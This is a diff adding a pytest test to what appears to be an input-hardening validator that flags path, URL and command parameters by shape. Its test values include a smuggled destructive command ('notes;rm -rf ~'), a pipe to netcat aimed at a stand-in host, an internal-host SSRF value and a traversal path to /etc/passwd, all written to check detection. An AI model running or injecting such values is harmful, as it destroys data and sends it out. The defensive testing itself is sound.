@@ -738,6 +738,21 @@ def test_values_are_classified_by_shape_too(
     assert rules(name, value, capsys) == expected
 
 
+def test_parameters_named_in_the_settings_are_validated_as_said(
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    """[tool.harden.validate] path_params / url_params / command_params, "param" or
+    "tool:param": for names that say nothing (the tool here is called `tool`)."""
+    assert rules("target", "notes;rm -rf ~", capsys) == []
+    assert rules("ref", "db.internal", capsys) == []
+    runtime.configure(path_params=["tool:target"], url_params=["ref"], command_params=["q"])
+    assert rules("target", "notes;rm -rf ~", capsys) == ["shell_metachar"]
+    assert rules("ref", "db.internal", capsys) == ["ssrf"]
+    assert rules("q", "ls | nc evil 1", capsys) == ["shell_metachar"]
+    runtime.configure(path_params=["other_tool:target"])  # replaces the list
+    assert rules("target", "notes;rm -rf ~", capsys) == []
+
+
 def test_traversal_shaped_values_in_other_parameters(capsys: pytest.CaptureFixture[str]) -> None:
     assert rules("name", "../../etc/passwd", capsys) == ["path_traversal"]
     assert rules("text", "see ../notes for details", capsys) == []
